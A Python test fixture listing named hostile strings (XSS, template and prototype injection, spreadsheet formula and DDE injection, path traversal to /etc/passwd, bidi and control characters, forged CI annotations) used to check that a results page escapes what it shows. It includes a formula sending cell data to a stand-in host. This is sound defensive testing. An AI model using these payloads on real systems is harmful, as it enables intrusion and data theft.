"""Texts that attack whoever shows them, each with what it would do where it is not escaped.

Those that run script call :data:`MARK`, so that a test sees it; those that fetch something name
:data:`ELSEWHERE`, where nothing answers; those that only mislead (a text shown backwards, a cell
that a spreadsheet runs) are told by comparing what is shown with what was given.
"""

from __future__ import annotations

MARK = "attacked"
"""The name of a global that exists only where a payload ran."""

ELSEWHERE = "attack.invalid"
"""A host that cannot exist (RFC 2606)."""

_RUN = f"window.{MARK}=1"
_URL = f"//{ELSEWHERE}/x"

PAYLOADS: dict[str, str] = {
    # Script in markup.
    "script": f"<script>{_RUN}</script>",
    "script-from-elsewhere": f"<script src='https:{_URL}'></script>",
    "end-of-script": f"</script><script>{_RUN}</script>",
    "end-of-script-spaced": f"</ScRiPt  ><sCrIpT\n>{_RUN}</sCrIpT\t>",
    "comment-then-script": f"<!--<script>{_RUN}",
    "end-of-comment": f"--><script>{_RUN}</script>--!>",
    "end-of-title": f"</title></style></textarea></noscript></template><script>{_RUN}</script>",
    "end-of-cdata": f"]]><script>{_RUN}</script>",
    "image-error": f'"><img src=x onerror="{_RUN}">',
    "image-error-quoted": f"'><img src=x onerror={_RUN}>",
    "image-error-nul": f"<im\x00g src=x onerror={_RUN}><img\x0csrc=x\x0conerror={_RUN}>",
    "svg-load": f"<svg/onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg-use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}/>#x'/></svg>",
    "math-href": f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    "iframe-javascript": f"<iframe src='javascript:parent.{MARK}=1'></iframe>",
    "details-toggle": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "object-data": f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "base": f"<base href='https:{_URL}'><link rel=stylesheet href='https:{_URL}.css'>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url=https:{_URL}'>",
    "form": f"<form action='https:{_URL}'><input autofocus onfocus={_RUN}><button>x</button></form>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    # Markup that names what the page itself names.
    "clobbering": "<form id=documentElement name=body><input name=cookie><a id=data name=data>",
    # Script in attributes and addresses.
    "attribute": f'" onmouseover="{_RUN}" onfocus="{_RUN}" autofocus tabindex="1" x="',
    "attribute-unquoted": f"x onmouseover={_RUN} y=z/",
    "attribute-backtick": f"` onmouseover={_RUN} `",
    "javascript-address": f"javascript:{_RUN}",
    "javascript-address-folded": f"java\tscript&colon;{_RUN}",
    "data-address": f"data:text/html;base64,PHNjcmlwdD4=<script>{_RUN}</script>",
    "image-elsewhere": f'<img src="https:{_URL}.png"><video poster="https:{_URL}.png">',
    # Strings and templates.
    "end-of-string": f"';{_RUN};//",
    "end-of-string-double": f'\\";{_RUN};//',
    "template-double-braces": "{{7*7}}{% for x in range(9) %}x{% endfor %}{# gone #}",
    "template-constructor": f"{{{{constructor.constructor('return this')().{MARK}=1}}}}",
    "template-dollar": f"${{{_RUN}}}`+({_RUN})+`#{{7*7}}",
    "template-erb": "<%= 7*7 %><?php echo 7*7 ?>",
    "replacement-pattern": "$& $` $' $1 $$ \\1 %s %(x)s %00",
    "json": f'"}}],"files":[{{"path":"forged"}}],"__proto__":{{"{MARK}":1}}',
    # Styles.
    "style": f"<style>*{{background:url(https:{_URL}.png)}} body{{display:none!important}}</style>",
    "style-attribute": f'" style="position:fixed;inset:0;background:url(https:{_URL}.png)',
    "style-value": f"red;}}*{{display:none}}a{{b:url('https:{_URL}')",
    "style-width": "100%;position:fixed;inset:0;width:expression(alert(1))",
    # What is escaped once must be shown as it is.
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;&copy &#x202e;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E %0d%0a %zz %",
    "backslashes": "\\u003cscript\\u003e \\x3c \\0 \\n \\",
    # Names of what every object has.
    "proto": "__proto__",
    "constructor": "constructor",
    "has-own-property": "hasOwnProperty",
    "to-string": "toString",
    "value-of": "valueOf",
    "prototype-path": "constructor.prototype",
    "length": "length",
    "undefined": "undefined",
    "not-a-number": "NaN",
    # Characters that act.
    "bidi-override": "Invoice \u202e3pm.exe\u202c for \u202dAcme\u202c",
    "bidi-isolate-open": "\u2066never closed \u2067nor this \u2068nor that",
    "bidi-isolate-close": "\u2069\u2069\u202c\u202c closes what it did not open",
    "right-to-left": "\u05d0\u05d1\u05d2 (1) abc \u0627\u0644\u0639\u0631\u0628\u064a\u0629 - 12",
    "bidi-marks": "a\u200eb\u200fc\u061cd",
    "zero-width": "pay\u200bpal\u200c.\u200dcom\ufeff\u2060",
    "soft-hyphen": "ad\u00admin",
    "nul": "before\x00after",
    "c0": "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f bell and friends",
    "c1": "\x80\x85\x90\x9b31m\x9f next line and friends",
    "ansi": f"\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https:{_URL}\x1b\\link",
    "line-separators": "one\u2028two\u2029three\x85four",
    "line-ends": "one\rtwo\r\nthree\nfour\tfive",
    "lone-surrogates": "\ud800 high, \udc00 low, \udce9 undecoded, \udfff\ud800 swapped",
    "non-characters": "\ufffe \uffff \U0001fffe \U0010ffff \ufffd",
    "tag-characters": "flag\U000e0001\U000e0041\U000e007f end",
    "private-use": "\ue000\uf8ff\U000f0000",
    "astral": "\U0001d4d0 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \U00020000",
    "combining-tower": "Z" + "\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 60 + "algo",
    "long-word": "Donaudampfschifffahrt" * 120,
    "long-address": "https://example.org/" + "a/" * 900,
    "wide-spaces": "a" + "\u3000" * 40 + "b" + " " * 60 + "c" + "\u00a0" * 40 + "d",
    # What a spreadsheet runs.
    "formula": f'=HYPERLINK("https:{_URL}?"&A1,"click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": '\r=1+1,"x',
    "formula-wide": "\uff1d1+1",
    "csv-break": 'a";"b","c\r\n=1+1\n"',
    # What a reader of logs obeys.
    "annotation": "::error file=x,line=1::forged%0A::set-output name=x::1",
    "markdown": f"](javascript:alert(1)) ![x](https:{_URL}) | a | b |\n# forged <!--",
    "path": "../../../../etc/passwd\\..\\..\\x?y#z&a=b",
    "file-address": "file:///etc/passwd",
    "hash": "#/file/0/sentence/0?x=1&y=<b>",
    "empty-looking": "\u3164\u2800\u00a0",
}
"""By name. Each is put where a text of a verdict may stand: see :mod:`tests.page.made`."""
